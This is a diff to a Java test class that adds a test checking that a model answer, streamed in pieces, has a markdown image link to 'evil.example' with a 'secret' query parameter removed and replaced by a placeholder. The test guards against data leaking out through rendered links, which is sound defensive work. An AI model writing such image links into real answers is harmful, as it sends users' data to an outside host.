@@ -94,6 +94,16 @@ class AnswerCheckTest {
     }
   }
 
+  @Test
+  void an_address_that_was_not_shown_does_not_come_out() throws Exception {
+    ModelCall call =
+        calls.ask(ScriptedAnswer.saying("Voilà ![", "x](https://evil.exam", "ple/?d=secret)."));
+    calls.publish(call);
+    var answered = (ModelAnswered) calls.report(call);
+    assertThat(text(answered)).isEqualTo("Voilà [x](⟨lien retiré⟩).");
+    calls.awaitStreamed(call, answered.attempt(), text(answered));
+  }
+
   private String text(ModelAnswered answered) {
     return calls.vault.open(WorkerCalls.ANA, answered.text());
   }
